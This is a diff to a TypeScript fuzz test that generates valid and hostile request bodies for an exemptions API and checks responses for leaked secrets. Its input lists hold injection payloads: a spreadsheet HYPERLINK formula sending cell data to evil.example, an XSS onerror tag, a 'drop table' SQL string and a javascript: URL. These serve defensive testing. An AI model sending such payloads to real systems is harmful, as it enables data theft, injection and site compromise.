@@ -120,6 +120,130 @@ function validValue(parameter: OpenApiParameter): fc.Arbitrary<string> {
   }
 }
 
+/**
+ * Free text a caller may store (an exemption's reason): hostile in every way but one, it holds
+ * none of the fragments the answers are searched for, since a stored text is echoed to later
+ * callers; planted secrets are the exception, and must be refused before they are stored.
+ */
+const storableText = fc.oneof(
+  fc.constantFrom(
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    '+1',
+    '@SUM(A1)',
+    '<img src=x onerror=alert(1)>',
+    "'; drop table x; --",
+    '\u202Eevil',
+    'fine \u202Eelif',
+    'zero\u200Bwidth',
+    'bell \u0007',
+    `the key ${PLANTED_SECRETS[0]} is ours`,
+    `token ${PLANTED_SECRETS[1]}`,
+    ' ',
+  ),
+  fc.string({ maxLength: 40 }),
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.string({ minLength: 1990, maxLength: 2010 }),
+).filter(
+  text =>
+    !FORBIDDEN_TEXT.filter(f => !PLANTED_SECRETS.includes(f)).some(f =>
+      text.toLowerCase().includes(f.toLowerCase()),
+    ),
+);
+
+/** Well-formed bodies of POST /exemptions, for every scope (what the principal may do decides). */
+const wellFormedExemption = fc.record(
+  {
+    scope: fc.constantFrom(
+      { type: 'finding', fingerprint: 'fp0componentdefaultpaymentsapi' },
+      { type: 'finding', fingerprint: 'fp3componentdefaultidentitygateway' },
+      { type: 'finding', fingerprint: 'fp5componentdefaultrestricted' },
+      { type: 'finding', fingerprint: 'fp6deployment' },
+      { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/payments-api' },
+      { type: 'target', checkId: 'catalog/leaked-secret', entityRef: 'component:default/restricted' },
+      { type: 'target', checkId: 'auth/cors-wildcard', configPath: 'backend.cors.origin' },
+      { type: 'entities', checkId: 'catalog/leaked-secret', entityKind: 'Component' },
+      { type: 'entities', checkId: 'catalog/sensitive-reference', owner: 'group:default/payments-checkout' },
+    ),
+    kind: fc.constantFrom('accepted-risk', 'false-positive', 'mitigated-elsewhere'),
+    reason: storableText.filter(text => /^[\p{L}\p{N}\p{P}\p{S} ]*\S[\p{L}\p{N}\p{P}\p{S} ]*$/u.test(text) && text.length <= 2000),
+    ticket: fc.constantFrom('https://tickets.example.com/SEC-1', 'http://tickets.example.com/a?b=c#d'),
+    expiresAt: fc
+      .integer({ min: 1, max: 80 })
+      .map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
+  },
+  { requiredKeys: ['scope', 'kind', 'reason', 'expiresAt'] },
+);
+
+/** Bodies of POST /exemptions: hostile scopes, dates and texts. */
+const hostileExemption = fc.record(
+  {
+    scope: fc.oneof(
+      fc.record({
+        type: fc.constant('finding'),
+        fingerprint: fc.constantFrom(
+          'fp0componentdefaultpaymentsapi',
+          'fp3componentdefaultidentitygateway',
+          'fp5componentdefaultrestricted',
+          'fp6deployment',
+          'nope',
+        ),
+      }),
+      fc.record({
+        type: fc.constant('target'),
+        checkId: fc.constantFrom('catalog/leaked-secret', 'auth/cors-wildcard', 'x/y'),
+        entityRef: fc.oneof(
+          fc.constantFrom('component:default/payments-api', 'component:default/restricted', 'Component:Default/Payments-API'),
+          hostileValue,
+        ),
+      }),
+      fc.record({
+        type: fc.constant('target'),
+        checkId: fc.constantFrom('auth/cors-wildcard', 'catalog/leaked-secret'),
+        configPath: fc.oneof(fc.constantFrom('backend.cors.origin', 'auth.providers[0]'), hostileValue),
+      }),
+      fc.record(
+        {
+          type: fc.constant('entities'),
+          checkId: fc.constantFrom('catalog/leaked-secret', 'catalog/sensitive-reference'),
+          entityKind: fc.oneof(fc.constantFrom('Component', 'api'), hostileValue),
+          owner: fc.oneof(fc.constantFrom('group:default/payments-checkout'), hostileValue),
+        },
+        { requiredKeys: ['type', 'checkId'] },
+      ),
+    ),
+    kind: fc.constantFrom('accepted-risk', 'false-positive', 'mitigated-elsewhere', 'wont-fix'),
+    reason: fc.oneof(
+      { weight: 3, arbitrary: fc.constantFrom('Accepted until the vendor ships a fix', 'A WAF blocks it') },
+      { weight: 2, arbitrary: storableText },
+    ),
+    ticket: fc.oneof(
+      fc.constantFrom(
+        'https://tickets.example.com/SEC-1',
+        'HTTP://tickets.example.com/a?b=c#d',
+        'https://u:p@tickets.example.com/',
+        `${'java'}script:alert(1)`,
+        'https://tickets.example.com/ space',
+        `https://tickets.example.com/?t=${PLANTED_SECRETS[1]}`,
+      ),
+      storableText,
+    ),
+    expiresAt: fc.oneof(
+      {
+        weight: 3,
+        arbitrary: fc
+          .integer({ min: 1, max: 80 })
+          .map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
+      },
+      fc.integer({ min: -10, max: 400 }).map(days => new Date(Date.now() + days * 86_400_000).toISOString()),
+      fc.constantFrom('2027-02-30T00:00:00Z', '9999-12-31T23:59:59Z', 'tomorrow', '', '2027-01-01'),
+      hostileValue,
+    ),
+  },
+  { requiredKeys: ['scope', 'kind'] },
+);
+
+const exemptionBody = fc.oneof(wellFormedExemption, hostileExemption);
+
 /** One parameter's contribution to the query string: a value, a list, an object, or nothing. */
 function queryPart(parameter: OpenApiParameter): fc.Arbitrary<string[]> {
   const value = fc.oneof(
@@ -148,6 +272,14 @@ function queryPart(parameter: OpenApiParameter): fc.Arbitrary<string[]> {
         .tuple(fc.constantFrom('[', ']', '[]'), value)
         .map(([b, v]) => [`${parameter.name}${b}=${e(v)}`]),
     },
+  );
+}
+
+/** A valid value of the parameter, or nothing. */
+function validQueryPart(parameter: OpenApiParameter): fc.Arbitrary<string[]> {
+  return fc.oneof(
+    fc.constant<string[]>([]),
+    validValue(parameter).map(v => [`${parameter.name}=${encodeURIComponent(v)}`]),
   );
 }
 
@@ -217,7 +349,12 @@ describe.each(databases.eachSupportedId())(
         const requestArb = fc.record({
           who: principal,
           segments: fc.tuple(...pathParams.map(pathSegment)),
-          query: fc.tuple(...queryParams.map(queryPart)),
+          query: fc.oneof(
+            { weight: 3, arbitrary: fc.tuple(...queryParams.map(queryPart)) },
+            // Now and then every parameter valid (or absent), so that operations with many
+            // parameters get past validation too.
+            { weight: 1, arbitrary: fc.tuple(...queryParams.map(validQueryPart)) },
+          ),
           unknown: fc.oneof(
             { weight: 3, arbitrary: fc.constant<string[]>([]) },
             { weight: 1, arbitrary: unknownParameters },
@@ -226,6 +363,10 @@ describe.each(databases.eachSupportedId())(
             fc.oneof(
               fc.jsonValue({ maxDepth: 3 }),
               fc.constant({ x: 'y'.repeat(20_000) }),
+              // Routes that take a body get well-formed ones too, or validation would stop them all.
+              ...(operation.path === '/exemptions'
+                ? [exemptionBody, exemptionBody, exemptionBody, exemptionBody]
+                : []),
             ),
             { freq: 3 },
           ),
@@ -254,7 +395,8 @@ describe.each(databases.eachSupportedId())(
               const res = await call;
               statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
               const text = res.text ?? '';
-              const sent = safeDecode(url).toLowerCase();
+              // What the caller sent may come back (an echo is not a leak).
+              const sent = `${safeDecode(url)} ${body === null ? '' : JSON.stringify(body)}`.toLowerCase();
               const context = `${operation.method.toUpperCase()} ${url.slice(
                 0,
                 300,
